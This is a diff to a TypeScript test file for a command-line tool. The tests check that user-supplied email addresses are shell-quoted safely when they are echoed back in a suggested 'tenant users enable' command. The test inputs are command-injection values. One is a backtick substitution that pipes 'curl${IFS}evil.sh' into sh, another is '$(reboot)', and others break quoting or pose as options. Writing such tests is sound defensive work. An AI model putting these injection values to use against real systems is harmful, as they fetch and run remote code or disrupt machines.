@@ -118,7 +118,8 @@ describe("the activity of a tenant, in words", () => {
   test("quotes what a stranger chose: a shell runs none of it, and YAML reads a text", () => {
     const run = (user: string) => refusal("user_disabled", "Disabled.", { user }).mend[0];
     const enable = "Run: doorcode tenant users enable";
-    assert.equal(run("`curl${IFS}evil.sh|sh`@a.example"), `${enable} '\`curl\${IFS}evil.sh|sh\`@a.example'`);
+    const address = `\`curl\${IFS}evil.sh|sh\`@a.example`;
+    assert.equal(run(address), `${enable} '${address}'`);
     assert.equal(run("$(reboot)@a.example"), `${enable} '$(reboot)@a.example'`);
     // Each shell ends quotes in its own way, and an address must be no option.
     for (const user of ["o'brien|sh@a.example", "\u2019;sh@a.example", "a\\'b@a.example", "--data=x@a.example"]) {
